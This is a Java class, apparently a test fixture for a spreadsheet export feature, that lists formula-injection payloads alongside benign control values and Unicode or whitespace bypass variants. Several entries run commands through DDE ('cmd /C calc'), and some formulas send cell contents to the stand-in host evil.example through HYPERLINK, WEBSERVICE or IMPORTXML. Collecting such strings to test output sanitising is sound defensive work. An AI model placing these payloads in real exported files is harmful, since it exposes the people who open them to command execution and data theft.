package org.vrs.export;

import java.util.List;

/** Texts with which somebody has tried to make a spreadsheet compute, in the ways that are known. */
public final class Payloads {

    public static final List<String> ALL = List.of(
            "=1+1",
            "=SUM(A1:A9)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=WEBSERVICE(\"http://evil.example/\"&B2)",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "==1",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "+61 2 5550 1234",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "-5 degrees",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@home",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00a0=1+1",
            "\u200b=1+1",
            "\u202e=1+1",
            "\ufeff=1+1",
            "\uff1d1+1",
            "\uff0b1+1",
            "\uff0d1+1",
            "\uff20SUM(1)",
            "\u0000=1+1",
            "|cmd",
            "%0A=1+1",
            "\"=1+1\"",
            "'=1+1",
            "\"\"=1+1",
            "harmless;=1+1",
            "harmless\n=1+1",
            "harmless\t=1+1",
            "harmless\";=1+1;\"",
            "harmless\r\n+1+1",
            "harmless|@SUM(1)",
            "_x003D_1+1",
            "<f>1+1</f>");

    private Payloads() {}
}
